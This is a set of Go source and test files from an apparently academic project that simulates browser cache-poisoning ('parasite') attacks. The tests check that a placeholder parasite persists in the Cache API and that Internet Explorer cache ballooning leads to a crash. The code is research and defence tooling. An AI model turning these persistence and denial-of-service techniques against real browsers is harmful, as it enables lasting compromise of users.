		t.Fatal("hard reload did not bypass the cache")
	}

	// Anchor a parasite in the Cache API: even a hard reload serves it.
	resp := httpsim.NewResponse(200, []byte("PARASITE"))
	resp.Header.Set("Cache-Control", "max-age=31536000")
	entryURL := "site.com/app.js"
	b.CacheAPI().Put(mustEntry(t, entryURL, resp))
	var hard2 *Page
	b.VisitWith("site.com", "/", VisitOpts{HardReload: true}, func(p *Page, err error) { hard2 = p })
	w.net.Run(0)
	if hard2 == nil || string(hard2.Scripts[0].Content) != "PARASITE" {
		t.Fatal("Ctrl+F5 removed the Cache-API-anchored parasite (Table III says it must not)")
	}
}

func TestClearCacheVsClearCookies(t *testing.T) {
	// Table III: only clearing cookies removes the Cache API object.
	w := newWeb(t)
	b := w.browser(t, "Chrome")
	resp := httpsim.NewResponse(200, []byte("PARASITE"))
	resp.Header.Set("Cache-Control", "max-age=31536000")
	b.CacheAPI().Put(mustEntry(t, "top1.com/persistent.js", resp))

	b.ClearCache()
	if b.CacheAPI().Len() != 1 {
		t.Fatal("clear-cache removed the Cache API parasite")
	}
	b.ClearCookies()
	if b.CacheAPI().Len() != 0 {
		t.Fatal("clear-cookies did not remove the Cache API parasite")
	}
}

func TestIEBalloonsToOOM(t *testing.T) {
	w := newWeb(t)
	// Build an IE with a tiny memory limit so the test floods quickly.
	p, err := ProfileByName("IE")
	if err != nil {
		t.Fatal(err)
	}
	p.MemoryLimit = 64 * 1024
	b, err := New(w.net, Config{Profile: p, OS: Win10, Segment: w.seg, Addr: "ie-victim", Resolver: w.resolver()})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 40; i++ {
		path := fmt.Sprintf("/junk%02d.jpg", i)
		w.addPage("attacker.com", path, strings.Repeat("x", 4096), nil)
		b.fetch("attacker.com", "attacker.com"+path, fetchOpts{}, func(fetchResult, error) {})
	}
	w.net.Run(0)
	if !b.OOMKilled() {
		t.Fatal("IE did not balloon to OOM")
	}
	if b.Cache().Stats().Evictions != 0 {
		t.Fatal("IE evicted despite ballooning")
	}
	// Further work fails: the DOS.
	errSeen := false
	b.fetch("attacker.com", "attacker.com/junk00.jpg", fetchOpts{}, func(_ fetchResult, err error) {
		errSeen = err != nil
	})
	w.net.Run(0)
	if !errSeen {
		t.Fatal("killed browser still serving")
	}
}

func TestOpaqueCrossOriginFetch(t *testing.T) {
	w := newWeb(t)
	w.addPage("a.com", "/", `<html><body><script src="/s.js"></script></body></html>`, nil)
	w.pages["a.com/s.js"] = httpsim.NewResponse(200, script.Embed(nil, "reader", ""))
	w.addPage("other.com", "/secret.json", `{"balance":9000}`, nil)
	w.addPage("open.com", "/public.json", `{"ok":1}`, map[string]string{"Access-Control-Allow-Origin": "*"})

	b := w.browser(t, "Chrome")
	var opaqueBody, openBody string
	b.ScriptRuntime().Register("reader", func(env script.Env, _ string) error {
		env.Fetch("other.com/secret.json", func(r *httpsim.Response, err error) {
			if err == nil {
				opaqueBody = string(r.Body)
			}
		})
		env.Fetch("open.com/public.json", func(r *httpsim.Response, err error) {
			if err == nil {
				openBody = string(r.Body)
			}
		})
		return nil
	})
	w.visit(t, b, "a.com", "/")
	if opaqueBody != "" {
		t.Fatalf("cross-origin body visible: %q", opaqueBody)
	}
	if openBody != `{"ok":1}` {
		t.Fatalf("CORS-allowed body = %q", openBody)
	}
	// The opaque fetch still populated the cache (propagation relies on
	// this).
	if !b.Cache().Contains("a.com", "other.com/secret.json") {
		t.Fatal("opaque response not cached")
	}
}

func TestProfileAvailability(t *testing.T) {
	w := newWeb(t)
	p, err := ProfileByName("Edge")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := New(w.net, Config{Profile: p, OS: Linux, Segment: w.seg, Addr: "x", Resolver: w.resolver()}); err == nil {
		t.Fatal("Edge on Linux should not construct (n/a in Table II)")
	}
}

func TestProfileLookup(t *testing.T) {
	if _, err := ProfileByName("Chrome*"); err != nil {
		t.Fatalf("incognito lookup: %v", err)
	}
	if _, err := ProfileByName("Netscape"); err == nil {
		t.Fatal("unknown profile resolved")
	}
	if got := len(Profiles()); got != 7 {
		t.Fatalf("profiles = %d, want 7", got)
	}
	if got := len(TableIProfiles()); got != 6 {
		t.Fatalf("table I profiles = %d, want 6", got)
	}
	if got := len(TableIIBrowsers()); got != 6 {
		t.Fatalf("table II browsers = %d, want 6", got)
	}
}

func TestHSTSPinning(t *testing.T) {
	w := newWeb(t)
	w.addPage("secure.com", "/", `<html><body>x</body></html>`,
		map[string]string{"Strict-Transport-Security": "max-age=63072000"})
	b := w.browser(t, "Chrome")
	w.visit(t, b, "secure.com", "/")
	if !b.HSTSKnown("secure.com") {
		t.Fatal("HSTS header not absorbed")
	}
	// A later plaintext fetch to the pinned host is refused.
	var ferr error
	b.fetch("secure.com", "secure.com/next", fetchOpts{bypassCache: true, bypassCacheAPI: true},
		func(_ fetchResult, err error) { ferr = err })
	w.net.Run(0)
	if ferr == nil {
		t.Fatal("plaintext fetch to HSTS-pinned host succeeded")
	}
}

func TestSetCookieAbsorbed(t *testing.T) {
	w := newWeb(t)
	w.addPage("shop.com", "/", `<html><body>x</body></html>`,
		map[string]string{"Set-Cookie": "sid=abc123; Path=/; HttpOnly"})
	b := w.browser(t, "Chrome")
	w.visit(t, b, "shop.com", "/")
	if v, ok := b.Cookies().Get("shop.com", "sid"); !ok || v != "abc123" {
		t.Fatalf("cookie = %q ok=%v", v, ok)
	}
}

func TestImageDims(t *testing.T) {
	if w, h := imageDims(cnc.RenderSVG(cnc.Dim{W: 300, H: 200})); w != 300 || h != 200 {
		t.Fatalf("svg dims = %dx%d", w, h)
	}
	if w, h := imageDims([]byte("PNGDATA")); w != 1 || h != 1 {
		t.Fatalf("fallback dims = %dx%d", w, h)
	}
}

func TestCSPParsing(t *testing.T) {
	c := ParseCSP("default-src 'self'; img-src *; connect-src 'self' cdn.example.com")
	if !c.Present {
		t.Fatal("present = false")
	}
	if !c.Allows("img-src", "anywhere.com", "me.com") {
		t.Fatal("img wildcard blocked")
	}
	if !c.Wildcard("img-src") || c.Wildcard("connect-src") {
		t.Fatal("wildcard detection wrong")
	}
	if c.Allows("connect-src", "evil.com", "me.com") {
		t.Fatal("connect-src leak")
	}
	if !c.Allows("connect-src", "cdn.example.com", "me.com") {
		t.Fatal("allowed host blocked")
	}
	if !c.Allows("frame-src", "me.com", "me.com") {
		t.Fatal("default-src 'self' same-origin blocked")
	}
	if c.Allows("frame-src", "evil.com", "me.com") {
		t.Fatal("default-src 'self' cross-origin allowed")
	}
	none := ParseCSP("script-src 'none'")
	if none.Allows("script-src", "me.com", "me.com") {
		t.Fatal("'none' allowed")
	}
	absent := ParseCSP("")
	if !absent.Allows("script-src", "evil.com", "me.com") {
		t.Fatal("absent policy must allow")
	}
}

func TestCSPFromHeadersDeprecated(t *testing.T) {
	h := httpsim.Header{}
	h.Set(CSPHeaderDeprecated, "default-src 'self'")
	c := CSPFromHeaders(h.Get)
	if !c.Present || !c.Deprecated {
		t.Fatalf("deprecated CSP: %+v", c)
	}
	h2 := httpsim.Header{}
	h2.Set(CSPHeader, "default-src *")
	c2 := CSPFromHeaders(h2.Get)
	if !c2.Present || c2.Deprecated {
		t.Fatalf("modern CSP: %+v", c2)
	}
}

func TestCSPWildcardSubdomain(t *testing.T) {
	c := ParseCSP("img-src *.cdn.com")
	if !c.Allows("img-src", "a.cdn.com", "me.com") {
		t.Fatal("subdomain wildcard blocked")
	}
	if c.Allows("img-src", "cdn.com.evil.com", "me.com") {
		t.Fatal("suffix confusion")
	}
}

func mustEntry(t *testing.T, url string, resp *httpsim.Response) *httpcache.Entry {
	t.Helper()
	e := httpcache.EntryFromResponse(0, url, hostOf(url), resp)
	if e == nil {
		t.Fatal("uncacheable response in fixture")
	}
	return e
}
