package browser

import (
	"fmt"
	"sort"
	"strings"

	"masterparasite/internal/httpsim"
)

// Post issues a form submission from this page's context, like an XHR:
// cookies attached, response cookies absorbed, nothing cached. cb runs
// inside the event loop. The path is resolved against the page host.
func (p *Page) Post(path string, form map[string]string, cb func(*httpsim.Response, error)) {
	b := p.browser
	url := normalizeURL(p.Host, path)
	host := hostOf(url)
	if b.oomKilled {
		cb(nil, ErrBrowserKilled)
		return
	}
	ep, ok := b.resolve(host)
	if !ok {
		cb(nil, fmt.Errorf("%w: %s", ErrUnresolvable, host))
		return
	}
	req := httpsim.NewRequest("POST", host, pathOf(url))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("User-Agent", b.Profile.UserAgent())
	if c := b.cookies.All(host); c != "" {
		req.Header.Set("Cookie", c)
	}
	req.Body = []byte(EncodeForm(form))
	handle := func(resp *httpsim.Response, err error) {
		if err != nil {
			cb(nil, err)
			return
		}
		b.absorb(host, resp)
		cb(resp, nil)
	}
	if ep.TLS {
		b.client.DoSealed(ep.Addr, ep.Port, httpsim.XORSealer{Key: httpsim.HostKey(host)}, req, handle)
		return
	}
	b.client.Do(ep.Addr, ep.Port, req, handle)
}

// EncodeForm renders form values as application/x-www-form-urlencoded
// with deterministic key order. Values are assumed token-safe (the
// simulated applications use plain identifiers).
func EncodeForm(form map[string]string) string {
	keys := make([]string, 0, len(form))
	for k := range form {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	parts := make([]string, 0, len(keys))
	for _, k := range keys {
		parts = append(parts, k+"="+strings.ReplaceAll(form[k], "&", "%26"))
	}
	return strings.Join(parts, "&")
}

// DecodeForm reverses EncodeForm.
func DecodeForm(body []byte) map[string]string {
	out := make(map[string]string)
	for _, kv := range strings.Split(string(body), "&") {
		if kv == "" {
			continue
		}
		k, v, _ := strings.Cut(kv, "=")
		out[k] = strings.ReplaceAll(v, "%26", "&")
	}
	return out
}
