package browser

import (
	"errors"
	"fmt"
	"strings"
	"time"

	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/tcpsim"
)

// Endpoint is the network location of a named host.
type Endpoint struct {
	Addr netsim.Addr
	Port uint16
	// TLS marks the host as HTTPS: traffic is sealed with HostKey(host).
	TLS bool
}

// Resolver maps a host name to its endpoint — the simulation's DNS.
type Resolver func(host string) (Endpoint, bool)

// Errors reported by the browser.
var (
	ErrUnresolvable  = errors.New("browser: host does not resolve")
	ErrBrowserKilled = errors.New("browser: process killed by OS (out of memory)")
	ErrBlockedByCSP  = errors.New("browser: request blocked by content security policy")
	ErrBlockedBySRI  = errors.New("browser: script blocked by subresource integrity")
)

// Browser is one victim browser instance on the simulated network.
type Browser struct {
	Profile Profile
	OS      OS

	net     *netsim.Network
	ifc     *netsim.Interface
	stack   *tcpsim.Stack
	client  *httpsim.Client
	resolve Resolver

	cache    *httpcache.Store
	cacheAPI *httpcache.CacheAPIStore
	cookies  *httpcache.CookieJar
	storage  map[string]map[string]string
	hsts     map[string]bool

	runtime *Runtime

	// EnforceCSP toggles policy enforcement (on by default; the ablation
	// benchmark switches it off).
	EnforceCSP bool
	// DefenseRandomQuery implements the §VIII recommendation "disable
	// caching of scripts to ensure that a fresh copy is loaded every time
	// — we implemented this by adding a random query string to each
	// request". Script fetches get a unique query, making cached copies
	// unreachable.
	DefenseRandomQuery bool
	defenseCounter     int

	oomKilled   bool
	sriBlocked  int
	cspBlocked  int
	netFetches  int
	cacheServes int
	apiServes   int
}

// Runtime is re-exported so callers register parasite behaviours without
// importing the script package's Runtime directly.
type Runtime = scriptRuntime

// Config bundles constructor parameters.
type Config struct {
	Profile  Profile
	OS       OS
	Segment  *netsim.Segment
	Addr     netsim.Addr
	Resolver Resolver
	// Delay is the interface's proximity delay on the segment.
	Delay time.Duration
	// Seed controls ISN generation for reproducibility.
	Seed int64
	// Reassembly overrides the TCP overlap policy (FirstWins when zero);
	// the injection ablation sets LastWins.
	Reassembly tcpsim.ReassemblyPolicy
	// Retransmit enables tcpsim's retransmission state machine, so the
	// browser survives a faulty (lossy/jittery) link profile.
	Retransmit bool
}

// New attaches a browser to the network.
func New(network *netsim.Network, cfg Config) (*Browser, error) {
	if cfg.Resolver == nil {
		return nil, errors.New("browser: nil resolver")
	}
	if !cfg.Profile.RunsOn(cfg.OS) {
		return nil, fmt.Errorf("browser: %s does not run on %s", cfg.Profile.UserAgent(), cfg.OS)
	}
	ifc, err := cfg.Segment.Attach(cfg.Addr, cfg.Delay, nil)
	if err != nil {
		return nil, fmt.Errorf("browser attach: %w", err)
	}
	seed := cfg.Seed
	if seed == 0 {
		seed = 42
	}
	stackOpts := []tcpsim.StackOption{tcpsim.WithSeed(seed)}
	if cfg.Reassembly != 0 {
		stackOpts = append(stackOpts, tcpsim.WithReassembly(cfg.Reassembly))
	}
	if cfg.Retransmit {
		stackOpts = append(stackOpts, tcpsim.WithRetransmit())
	}
	stack := tcpsim.NewStack(network, ifc, stackOpts...)
	b := &Browser{
		Profile: cfg.Profile,
		OS:      cfg.OS,
		net:     network,
		ifc:     ifc,
		stack:   stack,
		client:  httpsim.NewClient(stack),
		resolve: cfg.Resolver,
		cache: httpcache.NewStore(httpcache.Options{
			Capacity:    cfg.Profile.CacheSize,
			Policy:      cfg.Profile.Policy,
			Partitioned: cfg.Profile.PartitionedCache,
			Ballooning:  cfg.Profile.Ballooning,
		}),
		cacheAPI:   httpcache.NewCacheAPIStore(),
		cookies:    httpcache.NewCookieJar(),
		storage:    make(map[string]map[string]string),
		hsts:       make(map[string]bool),
		runtime:    newScriptRuntime(),
		EnforceCSP: true,
	}
	return b, nil
}

// Runtime returns the script runtime for behaviour registration.
func (b *Browser) ScriptRuntime() *Runtime { return b.runtime }

// Interface exposes the browser's network attachment point — the churn
// model toggles its receive path to simulate the victim leaving and
// rejoining the WiFi mid-attack.
func (b *Browser) Interface() *netsim.Interface { return b.ifc }

// Cache exposes the HTTP object cache (experiments inspect it).
func (b *Browser) Cache() *httpcache.Store { return b.cache }

// CacheAPI exposes the Cache API store.
func (b *Browser) CacheAPI() *httpcache.CacheAPIStore { return b.cacheAPI }

// Cookies exposes the cookie jar.
func (b *Browser) Cookies() *httpcache.CookieJar { return b.cookies }

// LocalStorage returns the live storage map for an origin.
func (b *Browser) LocalStorage(origin string) map[string]string {
	m, ok := b.storage[origin]
	if !ok {
		m = make(map[string]string)
		b.storage[origin] = m
	}
	return m
}

// OOMKilled reports whether the OS killed the browser (IE ballooning).
func (b *Browser) OOMKilled() bool { return b.oomKilled }

// Counters for the experiments.
func (b *Browser) NetFetches() int  { return b.netFetches }
func (b *Browser) CacheServes() int { return b.cacheServes }
func (b *Browser) CacheAPIServes() int {
	return b.apiServes
}
func (b *Browser) CSPBlocked() int { return b.cspBlocked }
func (b *Browser) SRIBlocked() int { return b.sriBlocked }

// HSTSKnown reports whether the browser has pinned host to HTTPS.
func (b *Browser) HSTSKnown(host string) bool { return b.hsts[host] }

// ClearCache clears the HTTP object cache — and, per Table III, does NOT
// touch the Cache API store, which is why the parasite survives.
func (b *Browser) ClearCache() { b.cache.Clear() }

// ClearCookies clears cookies *and site data*, which includes the Cache
// API store and local storage. Per Table III this is the only refresh
// action that removes Cache-API-anchored parasites.
func (b *Browser) ClearCookies() {
	b.cookies.Clear()
	b.cacheAPI.Clear()
	b.storage = make(map[string]map[string]string)
}

// normalizeURL resolves a resource reference against the page host.
func normalizeURL(pageHost, ref string) string {
	ref = strings.TrimPrefix(strings.TrimPrefix(ref, "https://"), "http://")
	if strings.HasPrefix(ref, "//") { // protocol-relative
		return ref[2:]
	}
	if strings.HasPrefix(ref, "/") {
		return pageHost + ref
	}
	return ref
}

// hostOf splits a host-qualified URL.
func hostOf(url string) string {
	if i := strings.IndexByte(url, '/'); i >= 0 {
		return url[:i]
	}
	return url
}

func pathOf(url string) string {
	if i := strings.IndexByte(url, '/'); i >= 0 {
		return url[i:]
	}
	return "/"
}

// fetchOpts tunes one fetch.
type fetchOpts struct {
	// bypassCache skips the HTTP cache entirely (hard reload, or the
	// parasite's cache-buster refetch). The Cache API is still consulted
	// unless bypassCacheAPI is also set: a hard reload does not disable a
	// service worker.
	bypassCache    bool
	bypassCacheAPI bool
}

// fetchResult tells the caller where the response came from.
type fetchResult struct {
	resp        *httpsim.Response
	fromCache   bool
	fromAPI     bool
	wasNotified bool
}

// fetch retrieves url for a page in the pageHost origin context. cb runs
// inside the network event loop.
func (b *Browser) fetch(pageHost, url string, opts fetchOpts, cb func(fetchResult, error)) {
	if b.oomKilled {
		cb(fetchResult{}, ErrBrowserKilled)
		return
	}
	// 1. Cache API (service-worker) interception.
	if b.Profile.SupportsCacheAPI && !opts.bypassCacheAPI {
		if e, ok := b.cacheAPI.Get(url); ok {
			b.apiServes++
			cb(fetchResult{resp: e.ToResponse(), fromAPI: true}, nil)
			return
		}
	}
	now := b.net.Now()
	// 2. HTTP cache.
	if !opts.bypassCache {
		if e, ok := b.cache.GetFresh(now, pageHost, url); ok {
			b.cacheServes++
			cb(fetchResult{resp: e.ToResponse(), fromCache: true}, nil)
			return
		}
	}
	// 3. Network, possibly conditional.
	host := hostOf(url)
	ep, ok := b.resolve(host)
	if !ok {
		cb(fetchResult{}, fmt.Errorf("%w: %s", ErrUnresolvable, host))
		return
	}
	req := httpsim.NewRequest("GET", host, pathOf(url))
	req.Header.Set("User-Agent", b.Profile.UserAgent())
	if c := b.cookies.All(host); c != "" {
		req.Header.Set("Cookie", c)
	}
	var stale *httpcache.Entry
	if !opts.bypassCache {
		if e, ok := b.cache.Get(pageHost, url); ok && e.ETag != "" {
			stale = e
			req.Header.Set("If-None-Match", e.ETag)
		}
	}
	handle := func(resp *httpsim.Response, err error) {
		if err != nil {
			cb(fetchResult{}, err)
			return
		}
		if resp.StatusCode == 304 && stale != nil {
			// Revalidated: refresh the stored entry's clock.
			stale.StoredAt = b.net.Now()
			b.cacheServes++
			cb(fetchResult{resp: stale.ToResponse(), fromCache: true}, nil)
			return
		}
		b.netFetches++
		b.absorb(host, resp)
		if e := httpcache.EntryFromResponse(b.net.Now(), url, host, resp); e != nil {
			b.cache.Put(pageHost, e)
			if b.Profile.Ballooning && b.Profile.MemoryLimit > 0 &&
				b.cache.Size() > b.Profile.MemoryLimit {
				// The OS steps in: Internet Explorer's Table I pathology.
				b.oomKilled = true
			}
		}
		cb(fetchResult{resp: resp}, nil)
	}
	if ep.TLS {
		b.client.DoSealed(ep.Addr, ep.Port, httpsim.XORSealer{Key: httpsim.HostKey(host)}, req, handle)
		return
	}
	if b.hsts[host] {
		// HSTS pins the host to HTTPS; a plaintext endpoint is refused.
		cb(fetchResult{}, fmt.Errorf("browser: %s pinned by HSTS but endpoint is plaintext", host))
		return
	}
	b.client.Do(ep.Addr, ep.Port, req, handle)
}

// absorb applies response side effects: cookies and HSTS pinning.
func (b *Browser) absorb(host string, resp *httpsim.Response) {
	if sc := resp.Header.Get("Set-Cookie"); sc != "" {
		name, value, ok := strings.Cut(strings.SplitN(sc, ";", 2)[0], "=")
		if ok {
			b.cookies.Set(host, strings.TrimSpace(name), strings.TrimSpace(value))
		}
	}
	if resp.Header.Has("Strict-Transport-Security") {
		b.hsts[host] = true
	}
}
