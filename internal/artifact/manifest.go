package artifact

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
)

// ManifestVersion is bumped when the manifest schema changes.
const ManifestVersion = 1

// ManifestEntry records one rendered artifact: its identity, the
// resolved params and base seed the run used, and the SHA-256
// fingerprint of the rendered bytes.
type ManifestEntry struct {
	ID            string         `json:"id"`
	Title         string         `json:"title"`
	Section       string         `json:"section"`
	Params        map[string]int `json:"params,omitempty"`
	Seed          int64          `json:"seed,omitempty"`
	Deterministic bool           `json:"deterministic"`
	Bytes         int            `json:"bytes"`
	SHA256        string         `json:"sha256"`
}

// Manifest describes one regeneration run. Deterministic artifacts
// rendered at the same format, params, and seeds must fingerprint
// identically regardless of Workers — so comparing two manifests from
// runs at different worker counts verifies the byte-identical
// guarantee without keeping the rendered bytes around.
type Manifest struct {
	Version   int             `json:"version"`
	Format    string          `json:"format"`
	Workers   int             `json:"workers"`
	Artifacts []ManifestEntry `json:"artifacts"`
}

// NewManifest starts a manifest for a run rendering the given format
// on a pool of the given width.
func NewManifest(format string, workers int) *Manifest {
	return &Manifest{Version: ManifestVersion, Format: format, Workers: workers}
}

// Add fingerprints one rendered artifact into the manifest.
func (m *Manifest) Add(spec Spec, res *Result, rendered []byte) {
	m.Artifacts = append(m.Artifacts, ManifestEntry{
		ID:            spec.ID,
		Title:         spec.Title,
		Section:       spec.Section,
		Params:        res.Params,
		Seed:          spec.Seed,
		Deterministic: spec.Deterministic,
		Bytes:         len(rendered),
		SHA256:        Fingerprint(rendered),
	})
}

// Fingerprints returns the per-artifact fingerprints of the
// deterministic artifacts — the values that must be identical across
// runs at any worker count.
func (m *Manifest) Fingerprints() map[string]string {
	out := make(map[string]string)
	for _, e := range m.Artifacts {
		if e.Deterministic {
			out[e.ID] = e.SHA256
		}
	}
	return out
}

// WriteTo emits the manifest as indented JSON.
func (m *Manifest) WriteTo(w io.Writer) (int64, error) {
	b, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		return 0, err
	}
	b = append(b, '\n')
	n, err := w.Write(b)
	return int64(n), err
}

// WriteFile writes the manifest to a path.
func (m *Manifest) WriteFile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("manifest: %w", err)
	}
	if _, err := m.WriteTo(f); err != nil {
		f.Close()
		return fmt.Errorf("manifest: %w", err)
	}
	return f.Close()
}

// ReadManifest loads a manifest written by WriteFile.
func ReadManifest(path string) (*Manifest, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("manifest: %w", err)
	}
	var m Manifest
	if err := json.Unmarshal(b, &m); err != nil {
		return nil, fmt.Errorf("manifest %s: %w", path, err)
	}
	return &m, nil
}

// Fingerprint is the hex SHA-256 of rendered artifact bytes.
func Fingerprint(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}
