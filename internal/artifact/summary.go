package artifact

// ParamSummary is the JSON-exportable description of one declared
// parameter: its name, what it tunes, the default applied when a caller
// omits it, and the lower bound validation enforces.
type ParamSummary struct {
	Name    string `json:"name"`
	Usage   string `json:"usage"`
	Default int    `json:"default"`
	Min     int    `json:"min"`
}

// Summary is the typed, JSON-exportable view of a Spec: everything a
// remote caller needs to construct a valid run request — identity,
// declared params with defaults and bounds, the base seed, and whether
// the rendered output is deterministic — without the Run function.
// Serving frontends (labd's spec-list endpoint) expose the registry
// through Summaries instead of leaking Spec itself.
type Summary struct {
	ID            string         `json:"id"`
	Title         string         `json:"title"`
	Section       string         `json:"section"`
	Params        []ParamSummary `json:"params,omitempty"`
	Seed          int64          `json:"seed,omitempty"`
	Deterministic bool           `json:"deterministic"`
	Resumable     bool           `json:"resumable,omitempty"`
}

// Summary returns the spec's exportable view.
func (s Spec) Summary() Summary {
	out := Summary{
		ID:            s.ID,
		Title:         s.Title,
		Section:       s.Section,
		Seed:          s.Seed,
		Deterministic: s.Deterministic,
		Resumable:     s.Resumable,
	}
	for _, p := range s.Params {
		out.Params = append(out.Params, ParamSummary{
			Name: p.Name, Usage: p.Usage, Default: p.Default, Min: p.Min,
		})
	}
	return out
}

// Summaries returns the exportable view of every registered spec, in
// registration order.
func Summaries() []Summary {
	specs := All()
	out := make([]Summary, len(specs))
	for i, s := range specs {
		out[i] = s.Summary()
	}
	return out
}
