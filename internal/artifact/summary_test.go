package artifact

import (
	"encoding/json"
	"reflect"
	"testing"
)

// TestSummaryJSONRoundTrip locks the exportable spec view: a Summary
// survives marshal → unmarshal unchanged, so a remote frontend decoding
// the spec-list endpoint sees exactly what the registry declared.
func TestSummaryJSONRoundTrip(t *testing.T) {
	spec := Spec{
		ID: "rt", Title: "Round trip", Section: "§T",
		Seed: 41, Deterministic: true, Resumable: true,
		Params: []Param{
			{Name: "sites", Usage: "corpus size", Default: 3000, Min: 1},
			{Name: "days", Usage: "study length", Default: 100, Min: 1},
		},
		Run: func(Env) (*Result, error) { return nil, nil },
	}
	want := spec.Summary()
	b, err := json.Marshal(want)
	if err != nil {
		t.Fatal(err)
	}
	var got Summary
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("round trip changed the summary:\ngot  %+v\nwant %+v", got, want)
	}
	if got.Params[0].Default != 3000 || got.Params[1].Min != 1 {
		t.Fatalf("param bounds lost: %+v", got.Params)
	}
}

// TestSummariesMatchRegistry asserts the exported list mirrors the
// registry: same IDs in the same order, params copied field-for-field.
func TestSummariesMatchRegistry(t *testing.T) {
	specs := All()
	sums := Summaries()
	if len(sums) != len(specs) {
		t.Fatalf("len = %d, want %d", len(sums), len(specs))
	}
	for i, s := range specs {
		sum := sums[i]
		if sum.ID != s.ID || sum.Title != s.Title || sum.Section != s.Section ||
			sum.Seed != s.Seed || sum.Deterministic != s.Deterministic || sum.Resumable != s.Resumable {
			t.Errorf("summary %d identity mismatch: %+v vs spec %+v", i, sum, s)
		}
		if len(sum.Params) != len(s.Params) {
			t.Errorf("summary %s params = %d, want %d", s.ID, len(sum.Params), len(s.Params))
			continue
		}
		for j, p := range s.Params {
			got := sum.Params[j]
			if got.Name != p.Name || got.Usage != p.Usage || got.Default != p.Default || got.Min != p.Min {
				t.Errorf("summary %s param %q mismatch: %+v vs %+v", s.ID, p.Name, got, p)
			}
		}
	}
}
