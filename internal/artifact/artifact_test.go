package artifact

import (
	"bytes"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"

	"masterparasite/internal/runner"
)

// fakeDataset is a minimal typed dataset for renderer tests.
type fakeDataset []struct {
	Name  string `json:"name"`
	Value int    `json:"value"`
}

func (d fakeDataset) Table() (header []string, rows [][]string) {
	header = []string{"name", "value"}
	for _, r := range d {
		rows = append(rows, []string{r.Name, itoa(r.Value)})
	}
	return header, rows
}

func itoa(v int) string {
	b, _ := json.Marshal(v)
	return string(b)
}

func fakeSpec(id string) Spec {
	return Spec{
		ID: id, Title: "Fake " + id, Section: "Test", Deterministic: true, Seed: 7,
		Params: []Param{{Name: "n", Usage: "count", Default: 3, Min: 1}},
		Run: func(env Env) (*Result, error) {
			n := env.Param("n")
			ds := make(fakeDataset, 0, n)
			var text strings.Builder
			for i := 0; i < n; i++ {
				ds = append(ds, struct {
					Name  string `json:"name"`
					Value int    `json:"value"`
				}{Name: "row", Value: i})
				text.WriteString("row\n")
			}
			return &Result{Text: text.String(), Dataset: ds}, nil
		},
	}
}

func TestRegisterRejectsDuplicatesAndConflicts(t *testing.T) {
	if err := Register(fakeSpec("t-dup")); err != nil {
		t.Fatal(err)
	}
	if err := Register(fakeSpec("t-dup")); err == nil {
		t.Fatal("duplicate ID accepted")
	}
	bad := fakeSpec("t-conflict")
	bad.Params = []Param{{Name: "t-orphan", Default: 1, Min: 0}, {Name: "n", Default: 99, Min: 0}}
	if err := Register(bad); err == nil {
		t.Fatal("conflicting param re-declaration accepted")
	}
	// The rejected spec must leave no trace: "t-orphan" was declared
	// before the conflicting "n", but a failed registration must not
	// have recorded it as a param owner.
	orphan := fakeSpec("t-orphan-reuser")
	orphan.Params = []Param{{Name: "t-orphan", Default: 2, Min: 0}}
	if err := Register(orphan); err != nil {
		t.Fatalf("failed registration polluted param ownership: %v", err)
	}
	if err := Register(Spec{Title: "no id"}); err == nil {
		t.Fatal("spec without ID accepted")
	}
}

func TestResolveIDsValidatesUpFront(t *testing.T) {
	MustRegister(fakeSpec("t-resolve-a"))
	MustRegister(fakeSpec("t-resolve-b"))

	ids, err := ResolveIDs("t-resolve-b, t-resolve-a")
	if err != nil || len(ids) != 2 || ids[0] != "t-resolve-b" {
		t.Fatalf("ids=%v err=%v", ids, err)
	}
	for _, expr := range []string{"t-resolve-a,,t-resolve-b", "t-resolve-a,t-resolve-a", "t-resolve-a,nope", ","} {
		if _, err := ResolveIDs(expr); err == nil {
			t.Errorf("expr %q accepted", expr)
		}
	}
	all, err := ResolveIDs("all")
	if err != nil || len(all) == 0 {
		t.Fatalf("all: ids=%v err=%v", all, err)
	}
}

func TestEnvDefaultsAndValidation(t *testing.T) {
	s := fakeSpec("t-env")
	env, err := s.NewEnv(runner.New(1), nil)
	if err != nil {
		t.Fatal(err)
	}
	if env.Param("n") != 3 {
		t.Fatalf("default not applied: %d", env.Param("n"))
	}
	env, err = s.NewEnv(runner.New(1), map[string]int{"n": 5, "other-specs-param": 9})
	if err != nil {
		t.Fatal(err)
	}
	if env.Param("n") != 5 {
		t.Fatalf("override not applied: %d", env.Param("n"))
	}
	if _, err := s.NewEnv(runner.New(1), map[string]int{"n": 0}); err == nil {
		t.Fatal("below-minimum value accepted")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("undeclared param lookup did not panic")
		}
	}()
	env.Param("undeclared")
}

func TestExecStampsIdentity(t *testing.T) {
	s := fakeSpec("t-exec")
	env, err := s.NewEnv(runner.New(1), map[string]int{"n": 2})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Exec(env)
	if err != nil {
		t.Fatal(err)
	}
	if res.ID != "t-exec" || res.Title != "Fake t-exec" || res.Section != "Test" || res.Params["n"] != 2 {
		t.Fatalf("identity not stamped: %+v", res)
	}

	noData := Spec{ID: "t-nodata", Run: func(Env) (*Result, error) { return &Result{Text: "x"}, nil }}
	if _, err := noData.Exec(Env{}); err == nil {
		t.Fatal("nil dataset accepted")
	}
}

func TestRenderers(t *testing.T) {
	res := &Result{
		ID: "t-render", Title: "Fake render", Section: "Test",
		Params: map[string]int{"n": 2}, Text: "row|one\nrow|two\n",
		Dataset: fakeDataset{{Name: "a|b", Value: 1}, {Name: "c", Value: 2}},
	}

	render := func(format string) string {
		t.Helper()
		r, err := RendererFor(format)
		if err != nil {
			t.Fatal(err)
		}
